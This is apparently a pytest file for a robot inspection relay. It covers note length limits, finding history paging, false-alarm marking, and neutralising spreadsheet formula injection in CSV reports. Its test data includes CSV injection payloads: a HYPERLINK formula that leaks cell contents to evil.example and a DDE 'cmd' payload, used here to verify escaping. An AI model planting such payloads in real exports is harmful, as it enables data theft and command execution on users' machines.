"""Findings as people write and read them (issue 28, finding 7): notes up to 1000 characters that can be cleared, and
report cells a spreadsheet shows as typed instead of running them; a change marked a false alarm, and what is
refused (issue 30, items 3 and 5)."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import aiohttp

from relay.config import FleetConfig
from relay.inspection.records import CaptureRecord, FindingRecord, MissionRecord, Step
from relay.inspection.store import Store
from tests.helpers.inspection import TOKEN, operator, relay_with_database
from tests.wsclient import TestClient

HOSTILE_CELLS = {
    '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "leak under the valve, 3 cm": "leak under the valve, 3 cm",  # an ordinary note is left as it is
}


async def test_a_note_holds_1000_characters_and_can_be_cleared(fleet_config: FleetConfig, tmp_path: Path) -> None:
    """Measured before: a note over 64 characters was refused (the generic string field's limit, where
    docs/protocol.md says 1000), and so was "", so a note could not be cleared."""
    running = await relay_with_database(fleet_config, tmp_path)
    try:
        client = await operator(running)
        await asyncio.sleep(0.5)  # the sim's first rendered frame
        added = await client.request(
            {"identifier": "target/add", "target": "spot-1", "robot": "robot1", "u": 240, "v": 360}, timeout=30
        )
        assert added["identifier"] == "ack", added
        finding = next(m for _, m in client.messages if m["identifier"] == "finding")
        store = running.relay.inspection.store
        assert store is not None
        long_note = ("gas at the drum's foot, " * 50)[:1000]
        for note in (long_note, ""):
            reply = await client.request({"identifier": "finding/update", "finding": finding["id"], "note": note})
            assert reply["identifier"] == "ack", reply
            sent = await client.wait_for(_finding_with(note))
            assert sent["id"] == finding["id"] and sent["status"] == finding["status"]
            assert [f.note for f in store.findings() if f.id == finding["id"]] == [note]
        marked = await client.request(
            {"identifier": "finding/mark", "capture": finding["capture"], "status": "ok", "note": long_note}
        )
        assert marked["identifier"] == "ack", marked
        assert sorted(len(f.note) for f in store.findings()) == [0, 1000]
        # One character more is refused, naming the field and the limit; nothing changes.
        refused = await client.request(
            {"identifier": "finding/update", "finding": finding["id"], "note": long_note + "!"}
        )
        assert refused.get("code") == "bad_request" and "'note'" in refused["message"], refused
        assert "at most 1000 characters" in refused["message"] and len(refused["message"]) < 400
        assert sorted(len(f.note) for f in store.findings()) == [0, 1000]
        await client.close()
    finally:
        await running.runner.cleanup()


def _finding_with(note: str) -> Callable[[dict[str, Any]], bool]:
    return lambda message: message["identifier"] == "finding" and message["note"] == note


def _records(tmp_path: Path) -> None:
    """A database holding one mission whose findings carry hostile notes and an ordinary one."""
    database = tmp_path / "inspection.sqlite"
    with Store.open(str(database), tmp_path / "inspection-images") as store:
        mission = "m-20261122-230112-ab12cd.robot1"
        store.save_mission(
            MissionRecord(mission, "Night round", "robot1", (Step("capture", "spill"),), "done", 1, "", 1.0, 2.0)
        )
        capture = store.add_capture(
            CaptureRecord("c-1", "robot1", 1.5, -1.5, 2.25, 0.0, {"gas": 698.2}, mission, "spill"), None
        )
        for i, note in enumerate(HOSTILE_CELLS):
            store.add_finding(
                FindingRecord(
                    f"f-{i}", capture.id, "robot1", -1.5, 2.25, "anomaly", note, "operator", 2.0 + i, 2.0 + i, mission
                )
            )


def _notes(text: str) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {row["finding"]: row for row in rows}


async def test_report_cells_a_spreadsheet_would_run_are_neutralised(fleet_config: FleetConfig, tmp_path: Path) -> None:
    """Measured before: a note "=HYPERLINK(...)" went into the CSV report as it was, and a spreadsheet opening the
    report ran it as a formula. Now a cell starting with =, +, -, @, a tab or a carriage return gets a leading
    single quote (OWASP's advice); the coordinates the report formats itself stay numbers."""
    await asyncio.to_thread(_records, tmp_path)  # where relay_with_database keeps its database
    running = await relay_with_database(fleet_config, tmp_path)
    try:
        url = f"{running.url}/report/m-20261122-230112-ab12cd.csv?token={TOKEN}"
        async with aiohttp.ClientSession() as http, http.get(url) as response:
            assert response.status == 200
            text = await response.text()
    finally:
        await running.runner.cleanup()
    rows = _notes(text)
    assert [rows[f"f-{i}"]["note"] for i in range(len(HOSTILE_CELLS))] == list(HOSTILE_CELLS.values())
    assert {(row["x"], row["y"]) for row in rows.values()} == {("-1.500", "2.250")}
    assert {row["readings"] for row in rows.values()} == {"gas 698.2 ppm (limit 400 ppm): over the limit"}


def _history(tmp_path: Path, count: int) -> None:
    """A database holding ``count`` findings, one a minute apart (the newest last)."""
    with Store.open(str(tmp_path / "inspection.sqlite"), tmp_path / "inspection-images") as store:
        capture = store.add_capture(CaptureRecord("c-1", "robot1", 1.5, -1.5, 2.25, 0.0, {"gas": 698.2}), None)
        for i in range(count):
            created = 1795388500.0 + 60 * i
            store.add_finding(
                FindingRecord(
                    f"f-{i:03d}", capture.id, "robot1", -1.5, 2.25, "anomaly", f"#{i}", "rule", created, created
                )
            )


async def test_the_findings_history_pages_back_to_the_first_finding_for_a_viewer_too(
    fleet_config: FleetConfig, tmp_path: Path
) -> None:
    """A page holds the relay's 200 newest findings; `findings/page` reads further back, newest first, until
    `more` is false: every finding once, in order. Bad pages are refused by name and change nothing."""
    await asyncio.to_thread(_history, tmp_path, 230)
    running = await relay_with_database(fleet_config, tmp_path)
    try:
        viewer = await TestClient.open(f"{running.ws_url}")
        await viewer.hello()
        seen: list[str] = []
        before = None
        pages = 0
        while pages < 10:
            pages += 1
            request = {"identifier": "findings/page", "limit": 100} | ({} if before is None else {"before": before})
            reply = await viewer.request(request)
            assert reply["identifier"] == "ack", reply
            answer = next(m for _, m in viewer.messages if m["identifier"] == "findings" and m["id"] == reply["id"])
            found = answer["findings"]
            assert all(f["identifier"] == "finding" and f["image"] is None for f in found)
            seen += [f["id"] for f in found]
            if not answer["more"]:
                break
            before = found[-1]["created"]
        assert pages == 3 and seen == [f"f-{i:03d}" for i in reversed(range(230))]
        for bad, word in (({"limit": 0}, "limit"), ({"limit": 101}, "limit"), ({"before": "yesterday"}, "before")):
            refused = await viewer.request({"identifier": "findings/page"} | bad)
            assert refused["identifier"] == "error" and refused["code"] == "bad_request" and word in refused["message"]
    finally:
        await running.runner.cleanup()


def _changed(tmp_path: Path) -> None:
    """A database holding two captures of the spill and the second's change finding, as a round leaves them."""
    with Store.open(str(tmp_path / "inspection.sqlite"), tmp_path / "inspection-images") as store:
        for n in (1, 2):
            store.add_capture(
                CaptureRecord(f"c-{n}", "robot1", 1795388500.0 + n, 1.0, 7.5, 0.0, {}, "m-1", "spill"), None
            )
        store.add_finding(
            FindingRecord("f-change", "c-2", "robot1", 1.8, 8.2, "changed", "changed since the last round", "rule",
                          1795388502.0, 1795388502.0, "m-1", "spill", None, 0.042, "c-1")
        )  # fmt: skip


async def test_a_change_marked_a_false_alarm_keeps_its_evidence_and_bad_marks_change_nothing(
    fleet_config: FleetConfig, tmp_path: Path
) -> None:
    await asyncio.to_thread(_changed, tmp_path)
    running = await relay_with_database(fleet_config, tmp_path)
    try:
        client = await operator(running)
        sent = await client.wait_for(lambda m: m["identifier"] == "finding" and m["id"] == "f-change")
        assert (sent["status"], sent["change"], sent["baseline"]) == ("changed", 0.042, "c-1")
        store = running.relay.inspection.store
        assert store is not None
        before = store.findings()
        bogus = await client.request({"identifier": "finding/update", "finding": "f-change", "status": "bogus"})
        assert bogus.get("code") == "bad_request" and "'status'" in bogus["message"], bogus
        assert "false_alarm" in bogus["message"] and '"bogus"' in bogus["message"]
        nowhere = await client.request(
            {"identifier": "finding/update", "finding": "f-nope", "status": "false_alarm", "note": "a shadow"}
        )
        assert nowhere.get("code") == "bad_request" and "no finding 'f-nope'" in nowhere["message"], nowhere
        assert store.findings() == before  # nothing refused changed anything

        marked = await client.request(
            {"identifier": "finding/update", "finding": "f-change", "status": "false_alarm", "note": "a shadow"}
        )
        assert marked["identifier"] == "ack", marked
        news = await client.wait_for(lambda m: m["identifier"] == "finding" and m["status"] == "false_alarm")
        assert (news["note"], news["change"], news["baseline"]) == ("a shadow", 0.042, "c-1")
        [stored] = store.findings()
        assert (stored.status, stored.note, stored.change, stored.baseline) == ("false_alarm", "a shadow", 0.042, "c-1")
        assert not [m for _, m in client.messages if m["identifier"] == "alert"]  # a false alarm alerts nobody
        again = await client.request({"identifier": "finding/update", "finding": "f-change", "status": "changed"})
        assert again["identifier"] == "ack", again
        alert = await client.wait_for(lambda m: m["identifier"] == "alert")
        assert (alert["kind"], alert["severity"], alert["subject"]) == ("changed", "warning", "f-change")
        assert alert["text"] == "Changed at Spill (robot1): a shadow", alert
        await client.close()
    finally:
        await running.runner.cleanup()
